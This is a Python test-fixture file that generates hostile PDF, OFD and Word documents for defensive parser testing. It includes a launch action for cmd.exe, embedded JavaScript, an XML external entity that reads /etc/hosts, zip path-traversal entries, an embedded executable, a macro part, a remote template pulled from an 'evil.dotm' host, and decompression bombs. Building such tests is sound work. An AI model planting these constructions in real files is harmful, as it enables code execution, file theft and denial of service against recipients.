"""PDF, OFD and office documents."""

import zipfile
from collections.abc import Callable, Mapping
from io import BytesIO

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from jiuye.runtime.demo.materials import ofd
from tests.factories import documents

MEGABYTE = 1024 * 1024
PAGE = "Doc_0/Pages/Page_0/Content.xml"
NAMESPACE = b'xmlns:ofd="http://www.ofdspec.org/2016"'


def written(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def pages(count: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(200, 200)
    return writer


def acting(kind: str, **more: str) -> bytes:
    """A PDF that does something when it is opened."""
    writer = pages()
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{name}"): TextStringObject(value) for name, value in more.items()})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return written(writer)


def with_a_file() -> bytes:
    writer = pages()
    writer.add_attachment("invoice.exe", b"MZ")
    return written(writer)


def locked() -> bytes:
    writer = pages()
    writer.encrypt("secret")
    return written(writer)


def streamed(content: bytes) -> bytes:
    """A PDF of one page with this compressed content."""
    writer, stream = PdfWriter(), DecodedStreamObject()
    page = writer.add_blank_page(300, 300)
    stream.set_data(content)
    page[NameObject("/Contents")] = writer._add_object(stream.flate_encode())
    return written(writer)


def looped() -> bytes:
    """A PDF whose page tree leads back to itself."""
    writer = pages()
    tree = writer.root_object["/Pages"]
    tree[NameObject("/Kids")] = ArrayObject([writer.root_object.raw_get("/Pages")])  # type: ignore[index]
    tree[NameObject("/Count")] = NumberObject(3)  # type: ignore[index]
    return written(writer)


def crowded() -> bytes:
    """A PDF of 30,000 objects."""
    return written(pages()).replace(
        b"%%EOF", b"".join(b"%d 0 obj<<>>endobj\n" % number for number in range(9, 30_000)) + b"%%EOF"
    )


def archive(entries: Mapping[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return out.getvalue()


def package(**changed: bytes) -> bytes:
    """An OFD file with changed or additional parts."""
    return archive(ofd.build([ofd.Sheet([ofd.Line("样例", 20, 30)])]) | changed)


def page(body: bytes) -> bytes:
    return (
        b"<ofd:Page "
        + NAMESPACE
        + b'><ofd:Content><ofd:Layer ID="9">'
        + body
        + b"</ofd:Layer></ofd:Content></ofd:Page>"
    )


WORD = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType='
    b'"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
)


def docx(body: bytes = b"<w:p><w:r><w:t>resume</w:t></w:r></w:p>", head: bytes = b"", **more: bytes) -> bytes:
    """A Word document."""
    document = (
        b'<?xml version="1.0"?>'
        + head
        + b'<w:document xmlns:w="'
        + WORD
        + b'"><w:body>'
        + body
        + b"</w:body></w:document>"
    )
    root = RELATIONS + b'officeDocument" Target="word/document.xml"/></Relationships>'
    return archive({"[Content_Types].xml": TYPES, "_rels/.rels": root, "word/document.xml": document} | more)


OUTSIDE = RELATIONS + b'attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'

PDF: Mapping[str, Callable[[], bytes]] = {
    "a PDF with a script": lambda: acting("/JavaScript", JS="app.alert(1)"),
    "a PDF that launches a program": lambda: acting("/Launch", F="cmd.exe"),
    "a PDF that goes to another file": lambda: acting("/GoToR", F="other.pdf"),
    "a PDF with a file in it": with_a_file,
    "a locked PDF": locked,
    "a PDF without pages": lambda: written(pages(0)),
    "a PDF of 60 pages": lambda: written(pages(60)),
    "a PDF whose pages lead in a circle": looped,
    "a PDF of 30,000 objects": crowded,
    "half a PDF": lambda: documents.pdf()[:2000],
    "the beginning of a PDF": lambda: b"%PDF-1.7\n",
    "a PDF that is a web page too": lambda: written(pages()) + b"<html><script>alert(1)</script></html>",
    "a PDF that is an archive too": lambda: written(pages()) + archive({"a.exe": b"MZ"}),
}
OFD: Mapping[str, Callable[[], bytes]] = {
    "an OFD with entities": lambda: package(**{PAGE: b'<!DOCTYPE a [<!ENTITY b "cc">]>' + page(b"&b;")}),
    "an OFD that reads a foreign file": lambda: package(
        **{PAGE: b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>' + page(b"&b;")}
    ),
    "an OFD with a script": lambda: package(**{PAGE: page(b"<ofd:JavaScript>1</ofd:JavaScript>")}),
    "an OFD that goes to another file": lambda: package(**{PAGE: page(b'<ofd:GotoA AttachID="1"/>')}),
    "an OFD with a part outside": lambda: package(**{"../../evil.xml": b"<a/>"}),
    "an OFD of 3,000 parts": lambda: package(**{f"x/{number}": b"" for number in range(3000)}),
    "an OFD that unpacks to 110 MB": lambda: package(**{f"r{n}.bin": bytes(11 * MEGABYTE) for n in range(10)}),
    "an OFD of 50,000 levels": lambda: package(
        **{PAGE: page(b"<ofd:PageBlock>" * 50_000 + b"</ofd:PageBlock>" * 50_000)}
    ),
    "half an OFD": lambda: package()[:-400],
    "something before an OFD": lambda: b"PK\x03\x04OFD.xml" + package(),
}
OFFICE: Mapping[str, Callable[[], bytes]] = {
    "a Word document with entities": lambda: docx(b"<w:p/>", b'<!DOCTYPE a [<!ENTITY b "cc">]>'),
    "a Word document with a template elsewhere": lambda: docx(**{"word/_rels/document.xml.rels": OUTSIDE}),
    "a Word document with macros": lambda: docx(**{"word/vbaProject.bin": b"macro"}),
    "a Word document of 100,000 levels": lambda: docx(b"<w:p>" * 100_000 + b"</w:p>" * 100_000),
    "a Word document that unpacks to 300 MB": lambda: docx(**{"word/media/a.png": bytes(300 * MEGABYTE)}),
    "a Word document with a name outside": lambda: docx(**{"../../evil.xml": b"<a/>"}),
    "an RTF of 30,000 groups": lambda: b"{\\rtf1 " + b"{" * 30_000 + b"}" * 30_000 + b"}",
}
